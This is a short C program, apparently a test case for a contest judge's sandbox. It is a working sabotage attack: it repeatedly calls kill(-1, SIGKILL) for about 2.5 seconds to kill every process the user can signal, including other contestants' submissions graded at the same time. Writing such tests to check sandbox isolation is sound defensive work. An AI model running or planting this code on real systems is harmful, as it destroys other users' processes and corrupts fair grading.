/* Attack: sabotage other contestants. kill(-1, SIGKILL) sends SIGKILL to
 * every process this user may signal; repeated for ~2.5 s per test, so that
 * concurrent runs of other submissions (graded beside it by another judge
 * process) die and lose their points.
 * Success is seen from outside: the innocent submission graded at the same
 * time loses points (checked by the test). The program itself prints -1. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>
int main(void) {
    prctl(PR_SET_NAME, "@TOKEN@ka");
    struct timespec start, t;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        kill(-1, SIGKILL);
        usleep(2000);
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((t.tv_sec - start.tv_sec) * 1000 + (t.tv_nsec - start.tv_nsec) / 1000000 < 2500);
    puts("-1");
    return 0;
}
